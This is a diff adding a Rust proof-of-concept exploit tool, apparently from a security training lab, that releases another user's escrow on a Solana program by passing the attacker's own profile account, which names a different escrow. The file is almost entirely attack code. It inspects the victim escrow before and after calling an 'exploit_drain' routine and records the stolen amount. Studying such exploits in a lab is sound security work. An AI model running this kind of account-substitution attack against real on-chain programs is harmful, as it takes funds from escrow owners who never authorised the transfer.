@@ -0,0 +1,47 @@
+//! poc-account-data-matching: releases someone else's escrow
+//!
+//! ```bash
+//! poc-account-data-matching --victim ESCROW --profile PROFILE [--rpc URL]
+//! ```
+//!
+//! The profile is the attacker's own, naming a different escrow. No example
+//! instruction writes an escrow or a profile, so both have to be on the
+//! cluster already.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::account_data_matching::Client;
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-account-data-matching",
+    about = "Release an account_data_matching escrow to the attacker through their own profile"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The escrow to release
+    #[arg(long)]
+    victim: Pubkey,
+    /// The attacker's profile, which names some other escrow
+    #[arg(long)]
+    profile: Pubkey,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("account_data_matching")?);
+    let mut report = Report::new("account_data_matching", &args.target, &client);
+    let escrow = args.victim;
+    report.inspect(&client, "before", escrow).await?;
+    let drained = client.exploit_drain(args.profile, escrow).await;
+    report.inspect(&client, "after", escrow).await?;
+    Ok(report.exploit(escrow, drained.map(|stolen| Exploit::took(stolen, escrow))))
+}